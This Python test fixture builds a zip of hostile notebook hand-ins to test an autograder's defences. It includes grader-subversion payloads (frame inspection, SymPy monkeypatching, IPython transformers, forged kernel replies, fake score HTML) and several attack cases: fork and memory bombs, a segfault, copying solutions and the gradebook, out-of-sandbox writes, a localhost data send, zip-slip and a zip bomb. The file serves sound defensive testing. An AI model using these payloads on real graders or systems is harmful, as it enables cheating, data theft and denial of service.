"""A class of hostile hand-ins for notebook 01, as one Canvas-style export (a zip).

Two kinds of students:

- ``ROBUSTNESS``: hand-ins that try to break the grader (loops, bombs, crashes, junk files,
  edited test cells, huge outputs, reading secrets, writing outside, the network, zip tricks);
- ``ATTACKS``: hand-ins that try to make a wrong answer pass, one per way found against the
  in-kernel checks (issue: trusted grading), in seven classes. Each is built **twice**: on top
  of a wrong answer (it must be scored as wrong, or flagged, never more) and on top of the
  right answer (never above the right score).

Every student gets a unique Canvas user id; a few identity cases (one name, two ids;
non-Latin names) and a compressed bomb entry ride along in the same export.
"""

from __future__ import annotations

import io
import textwrap
import zipfile
from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder.build.authoring import filled_submission
from autograder.course import COURSE, REPO, SOLUTIONS, answer_cells, graded_cells, notebook_path
from tests.notebooks.harness import exercise_ids, load_variants, read_nb

AID = "01-chain-rule"
MIME = "application/vnd.backproplab.case+json"


@dataclass
class Attack:
    name: str
    klass: int                 # 1-7: the classes of the trusted-grading issue; 8: export and feedback
    what: str
    code: str                  # appended to the attacked answer cell ({wrap}: the answer's function is `_real`)
    exercise: str = "ex01_chain"
    flagged: bool = True       # the static scan must flag it
    keeps_right: bool = False  # on the right answer, the trusted score stays full


WRAP = "_real = chain_derivative\n"

ATTACKS = [
    # 1. reading the expected value while the test runs
    Attack("frames", 1, "walks the caller's frames for an expected value", WRAP + '''
import sys
def chain_derivative(funcs, x):
    f = sys._getframe(1)
    while f is not None:
        for k in ("expected", "ref", "e", "ve", "_expected"):
            v = f.f_locals.get(k)
            if isinstance(v, sp.Basic):
                return v
        f = f.f_back
    return _real(funcs, x)
''', keeps_right=True),
    Attack("notebook_globals", 1, "looks for an expected value in the notebook's globals", WRAP + '''
def chain_derivative(funcs, x):
    for k, v in list(globals().items()):
        if k.startswith("_") and isinstance(v, sp.Expr) and v.has(sp.cos):
            return v
    return _real(funcs, x)
''', keeps_right=True),
    Attack("gc_objects", 1, "searches every live object for the test's cases", WRAP + '''
import gc
def chain_derivative(funcs, x):
    for o in gc.get_objects():
        if type(o).__name__ == "Case" and getattr(o, "ref", None) is not None:
            return o.ref
    return _real(funcs, x)
''', keeps_right=True),
    # 2. objects that make the comparison lie
    Attack("sympy_subclass", 2, "returns a SymPy subclass equal to everything", '''
class Yes(sp.Symbol):
    def __eq__(self, other):
        return True
    def equals(self, other):
        return True
    __hash__ = sp.Symbol.__hash__
def chain_derivative(funcs, x):
    return Yes("d")
'''),
    Attack("implemented_function", 2, "returns an implemented function that reads the caller's expected value", '''
import sys
from sympy.utilities.lambdify import implemented_function
def _peek(v):
    f = sys._getframe(1)
    while f is not None:
        if "ve" in f.f_locals:
            return f.f_locals["ve"]
        f = f.f_back
    return 0.0
def chain_derivative(funcs, x):
    return implemented_function("d", _peek)(x)
'''),
    Attack("matrix_getitem", 2, "returns a Matrix whose entries look at the caller", '''
import sys
class Peek(sp.MutableDenseMatrix):
    def __getitem__(self, key):
        f = sys._getframe(1)
        while f is not None:
            if "expected" in f.f_locals and hasattr(f.f_locals["expected"], "shape"):
                return f.f_locals["expected"][key]
            f = f.f_back
        return sp.MutableDenseMatrix.__getitem__(self, key)
_real_j = layer_jacobian
def layer_jacobian(W, b, x):
    return Peek(_real_j(W, b, x))
''', exercise="ex01_layer_jacobian"),
    # 3. shadowing builtins or the checks in the notebook
    Attack("shadow_check", 3, "rebinds check (the test's helper) in the notebook", '''
check = lambda *a, **k: None
''', keeps_right=True),
    Attack("thread_rebind", 3, "a background thread rebinds check and builtins every millisecond", '''
import threading, time, builtins
def _loop():
    g = globals()
    while True:
        g["check"] = lambda *a, **k: None
        builtins.isinstance = lambda *a: True
        time.sleep(0.001)
threading.Thread(target=_loop, daemon=True).start()
'''),
    Attack("shadow_builtins", 3, "shadows isinstance, float and abs in the notebook", '''
def isinstance(*a):
    return True
float = lambda v: 0.0
abs = lambda v: 0.0
''', flagged=False, keeps_right=True),
    # 4. patching what an in-kernel guard does not snapshot
    Attack("patch_sympy_code", 4, "swaps the code of SymPy's comparison functions", '''
sp.Expr.equals = lambda *a, **k: True
sp.simplify.__code__ = (lambda *a, **k: 0).__code__
''', keeps_right=True),
    Attack("patch_class_attr", 4, "makes every SymPy object equal to every other", '''
sp.Basic.__eq__ = lambda s, o: True
sp.Basic.__ne__ = lambda s, o: False
'''),
    Attack("ctypes_slots", 4, "patches a built-in type's dict through gc and ctypes", '''
import gc, ctypes
gc.get_referents(float.__dict__)[0]["__repr__"] = lambda s: "0.0"
'''),
    # 5. IPython's transformers and events
    Attack("input_transformer", 5, "an input transformer empties every later cell (the tests)", '''
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
'''),
    Attack("ast_transformer", 5, "an AST transformer replaces the test's call", '''
import ast
class _Gut(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[])
get_ipython().ast_transformers.append(_Gut())
'''),
    Attack("pre_run_event", 5, "a pre_run_cell event replaces the grader's collect with a forger", f'''
import sys
def _forge(exercise_id, payload):
    from IPython.display import display
    for i in range(200):
        display({{"{MIME}": {{"case": i, "result": '{{"dict":[["ok",{{"sympy":["Integer","0"]}}]]}}'}}}}, raw=True)
def _hook(info=None):
    m = sys.modules.get("backproplab.exercises")
    if m is not None:
        m.collect = _forge
get_ipython().events.register("pre_run_cell", _hook)
'''),
    # 6. silencing or forging reports
    Attack("replace_collect", 6, "replaces the grader's collect in the library module", f'''
import backproplab.exercises as _ex, backproplab.exercises._core as _core
def _forge(exercise_id, payload):
    from IPython.display import display
    for i in range(200):
        display({{"{MIME}": {{"case": i, "result": '{{"dict":[["fail",{{"list":["ok","passed"]}}]]}}'}}}}, raw=True)
_ex.collect = _core.collect = _forge
'''),
    Attack("audit_hook", 6, "an audit hook that stops every later cell from compiling", '''
import sys
def _hook(event, args):
    if event == "compile" and args and "collect" in str(args[0])[:200]:
        raise RuntimeError("nothing to see")
sys.addaudithook(_hook)
'''),
    Attack("session_send", 6, "wraps the kernel's session to rewrite the test's results", f'''
_k = get_ipython().kernel
_send = _k.session.send
def _rewrite(stream, msg_or_type, content=None, *a, **kw):
    if isinstance(content, dict) and "{MIME}" in str(content.get("data", ""))[:200]:
        content["data"]["{MIME}"]["result"] = '{{"dict":[["ok",{{"sympy":["Integer","1"]}}]]}}'
    return _send(stream, msg_or_type, content, *a, **kw)
_k.session.send = _rewrite
'''),
    Attack("guard_off_delegation", 6, "switches the no-delegation guard off and calls the library's oracle", WRAP + '''
import backproplab._guard as _g
import backproplab.symbolic as _sym
class _Never(set):
    def __contains__(self, k):
        return False
_g._forbidden = _Never()
def chain_derivative(funcs, x):
    try:
        _sym.backprop([np.ones((1, 1))], [np.zeros((1, 1))], np.ones((1, 1)), np.ones((1, 1)), ["sigmoid"])
    except Exception:
        pass
    return _real(funcs, x)
''', keeps_right=True),
    # 7. forging the kernel's protocol replies
    Attack("fake_idle", 7, "sends a fake 'idle' and 'ok' reply so the test cell ends early", WRAP + '''
def chain_derivative(funcs, x):
    k = get_ipython().kernel
    parent = k.get_parent("shell")
    k.session.send(k.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
    k.session.send(k.shell_stream, "execute_reply", {"status": "ok", "execution_count": 1,
                   "user_expressions": {}, "payload": []}, parent=parent, ident=k._parent_ident.get("shell"))
    return _real(funcs, x)
'''),
    Attack("payload_flood", 7, "displays forged results for every case before the real ones", WRAP + f'''
from IPython.display import display
def chain_derivative(funcs, x):
    for i in range(300):
        display({{"{MIME}": {{"case": i, "result": '{{"dict":[["ok",{{"sympy":["Integer","2"]}}]]}}'}}}}, raw=True)
    return _real(funcs, x)
''', flagged=False),
    # 8. export and feedback
    Attack("display_update", 8, "rewrites its own earlier output during the tests (a fake score)", WRAP + '''
from IPython.display import display, update_display
display("my " + "notes", display_id="notes")
def chain_derivative(funcs, x):
    update_display("Score: 10.0 / 10.0 (verified " + "by the grader)", display_id="notes")
    return _real(funcs, x)
''', flagged=False, keeps_right=True),
    Attack("html_script", 8, "HTML and script output in an answer cell with a fake score line", '''
from IPython.display import HTML, display
_lt = chr(60)
display(HTML(_lt + "script>document.title='owned'" + _lt + "/script>" + _lt + "h2 class='score'>Score: 10.0 "
             + "/ 10.0" + _lt + "/h2>"))
''', flagged=False, keeps_right=True),
    Attack("print_inputs", 8, "prints the hidden inputs during the tests (for the feedback page)", WRAP + '''
def chain_derivative(funcs, x):
    print("HIDDEN-" + "INPUT-MARKER", funcs)
    return _real(funcs, x)
''', flagged=False, keeps_right=True),
]


def stub(release_nb, gid: str, body: str, head: str = "") -> str:
    """The release's answer cell with its ``raise NotImplementedError()`` replaced by ``body``."""
    src = answer_cells(release_nb)[gid].source
    line = next(ln for ln in src.splitlines() if "raise NotImplementedError()" in ln)
    indent = line[: len(line) - len(line.lstrip())]
    body = "\n".join(indent + b if b.strip() else b for b in body.strip("\n").splitlines())
    return (head + "\n" if head else "") + src.replace(line, body, 1)


def build(dest: Path, *, port: int, canary: Path, gradebook: Path) -> dict[str, dict]:
    """Write the hostile export to ``dest``; returns {student: {"case", "build", "uid", ...}}."""
    src, rel = read_nb(notebook_path(AID, SOLUTIONS)), read_nb(notebook_path(AID, COURSE))
    exs = exercise_ids(src)
    ex0 = exs[0]
    wrong_v, _ = load_variants(AID)
    wrong = {ex: next(iter(v.values())) for ex, v in wrong_v.items()}
    solution = {g: c.source for g, c in answer_cells(filled_submission(rel, src)).items()}
    files: list[tuple[str, bytes, tuple]] = []
    people: dict[str, dict] = {}
    t = (2025, 3, 1, 12, 0, 0)

    def nb_bytes(replace=None, edit=None) -> bytes:
        nb = filled_submission(rel, src, replace or {})
        if edit:
            edit(nb)
        return nbformat.writes(nb).encode()

    def add(student, data, info, when=t, name=None):
        uid = people.setdefault(student, {**info, "uid": str(10_000 + len(people))})["uid"]
        files.append((name or f"submissions/{student}_{uid}_{20_000 + len(files)}_{AID}.ipynb", data, when))

    add("good", nb_bytes(), {"case": "the solution: full marks (control)"})
    add("wrong", nb_bytes({ex0: wrong[ex0], exs[2]: wrong[exs[2]]}), {"case": "two common mistakes (control)"})
    for a in ATTACKS:
        add(f"wrong{a.name.replace('_', '')}", nb_bytes({a.exercise: wrong[a.exercise] + "\n" + textwrap.dedent(a.code)}),
            {"case": a.what, "build": "wrong", "attack": a})
        add(f"right{a.name.replace('_', '')}", nb_bytes({a.exercise: solution[a.exercise] + "\n" + textwrap.dedent(a.code)}),
            {"case": a.what, "build": "right", "attack": a})
    add("loop", nb_bytes({ex0: stub(rel, ex0, "while True:\n    pass")}), {"case": "an infinite loop in an answer"})
    add("membomb", nb_bytes({ex0: stub(rel, ex0, "hog = []\nwhile True:\n    hog.append(bytearray(50_000_000))")}),
        {"case": "a memory bomb"})
    add("forkbomb", nb_bytes({ex0: stub(rel, ex0, "while True:\n    try:\n        os.fork()\n    except OSError:\n"
                                              "        pass", head="import os")}), {"case": "a fork bomb"})
    add("osexit", nb_bytes({ex0: stub(rel, ex0, "os._exit(0)", head="import os")}), {"case": "os._exit in an answer"})
    add("sysexit", nb_bytes({ex0: stub(rel, ex0, "sys.exit(1)", head="import sys")}), {"case": "sys.exit in an answer"})
    add("segfault", nb_bytes({ex0: stub(rel, ex0, "ctypes.string_at(0)", head="import ctypes")}),
        {"case": "a kernel crash (segfault through ctypes)"})
    good = nb_bytes()
    add("badjson", good[: len(good) // 3], {"case": "invalid JSON"})
    add("empty", b"", {"case": "an empty file"})
    other = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("def unrelated():\n    return 1")])
    other.cells[0].metadata["nbgrader"] = {"grade": False, "grade_id": "ex99_other", "locked": False,
                                           "schema_version": 3, "solution": True, "task": False}
    add("otherassignment", nbformat.writes(other).encode(), {"case": "a notebook of another assignment"})
    tests_of = list(graded_cells(src))

    def delete_test(nb):
        nb.cells = [c for c in nb.cells if (c.metadata.get("nbgrader") or {}).get("grade_id") != tests_of[0]]

    def duplicate_test(nb):
        i = next(i for i, c in enumerate(nb.cells) if (c.metadata.get("nbgrader") or {}).get("grade_id") == tests_of[0])
        nb.cells.insert(i, nbformat.from_dict(dict(nb.cells[i])))
        nb.cells[i]["id"] = "dup0001"

    def edit_tests(nb):
        for c in graded_cells(nb).values():
            c.source = "pass  # all good"

    def retype_test(nb):
        c = graded_cells(nb)[tests_of[0]]
        c.metadata.pop("nbgrader")
        c.source = "print('tests pass')"

    bad = {ex0: wrong[ex0], exs[2]: wrong[exs[2]]}
    add("deletedtest", nb_bytes(bad, delete_test), {"case": "wrong answers, a test cell deleted"})
    add("duplicatedtest", nb_bytes(bad, duplicate_test), {"case": "wrong answers, a test cell duplicated"})
    add("editedtest", nb_bytes(bad, edit_tests), {"case": "wrong answers, every test cell edited to pass"})
    add("retypedtest", nb_bytes(bad, retype_test), {"case": "wrong answers, a test cell retyped without metadata"})
    add("bigoutput", nb_bytes({ex0: solution[ex0] + "\nprint('x' * 100_000_000)\n"}),
        {"case": "a 100 MB output (otherwise correct)"})
    sol_path = REPO / "solutions" / AID / f"{AID}.ipynb"
    steal = (f"import json, shutil\n"
             f"def _steal():\n"
             f"    for c in json.load(open({str(sol_path)!r}))['cells']:\n"
             f"        if c.get('metadata', {{}}).get('nbgrader', {{}}).get('solution'):\n"
             f"            exec(''.join(c['source']), globals())\n"
             f"try:\n    _steal()\nexcept Exception as exc:\n    print('no solutions:', type(exc).__name__)\n"
             f"try:\n    shutil.copy({str(gradebook)!r}, 'stolen.db')\nexcept Exception as exc:\n"
             f"    print('no gradebook:', type(exc).__name__)\n")
    add("readsecrets", nb_bytes({g: answer_cells(rel)[g].source for g in exs} | {ex0: steal}),
        {"case": "copies the solutions and the gradebook if it can"})
    targets = [canary / "planted.txt", canary / "existing.txt", REPO / "PWNED-by-student", Path("/tmp/bpl-pwned"),
               gradebook]
    write = "import os\nfor _p in {!r}:\n    try:\n        open(_p, 'a').write('pwned')\n    except OSError as exc:\n" \
            "        print('cannot write', _p, type(exc).__name__)\ntry:\n    os.remove({!r})\nexcept OSError:\n" \
            "    pass\n".format([str(p) for p in targets], str(canary / "existing.txt"))
    add("writeoutside", nb_bytes({ex0: solution[ex0] + "\n" + write}),
        {"case": "writes outside its folder (repository, /tmp, a canary folder, the gradebook)"})
    net = (f"import socket\ntry:\n    _s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
           "    _s.sendall(b'leak')\n    print('connected')\nexcept OSError as exc:\n    print('no network:', exc)\n")
    add("network", nb_bytes({ex0: solution[ex0] + "\n" + net}), {"case": "opens a connection to 127.0.0.1"})
    people["zipslip"] = {"case": "a zip entry with ../ in its path", "uid": "99999"}
    files.append((f"../../zipslip_99999_1_{AID}.ipynb", nb_bytes(), t))
    add("twice", nb_bytes(bad), {"case": "handed in twice: a wrong one first, the solution later"},
        when=(2025, 3, 1, 10, 0, 0))
    uid = people["twice"]["uid"]
    files.append((f"submissions/twice_{uid}_29999_{AID}-1.ipynb", nb_bytes(), (2025, 3, 1, 11, 0, 0)))
    # identity: one name, two students; names in other scripts
    for name in ("Sam Lee", "Sam Lee", "李小龍", "Дмитрий Иванов"):
        key = f"id{len(people)}"
        people[key] = {"case": f"identity: {name}", "uid": str(10_000 + len(people)), "name": name}
        files.append((f"moodle/{name}_{people[key]['uid']}_assignsubmission_file_/{AID}.ipynb", good, t))
    people["bomb"] = {"case": "a compressed 300 MB notebook entry (and a 300 MB non-notebook)", "uid": "88888"}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data, when in files:
            zf.writestr(zipfile.ZipInfo(name, date_time=when), data, compress_type=zipfile.ZIP_DEFLATED)
        zero = b"\0" * (300 * 1024 * 1024)
        zf.writestr(zipfile.ZipInfo(f"submissions/bomb_88888_1_{AID}.ipynb", date_time=t), zero,
                    compress_type=zipfile.ZIP_DEFLATED)
        zf.writestr(zipfile.ZipInfo("submissions/bomb_88888_2_data.bin", date_time=t), zero,
                    compress_type=zipfile.ZIP_DEFLATED)
        del zero
    dest.write_bytes(buf.getvalue())
    return people
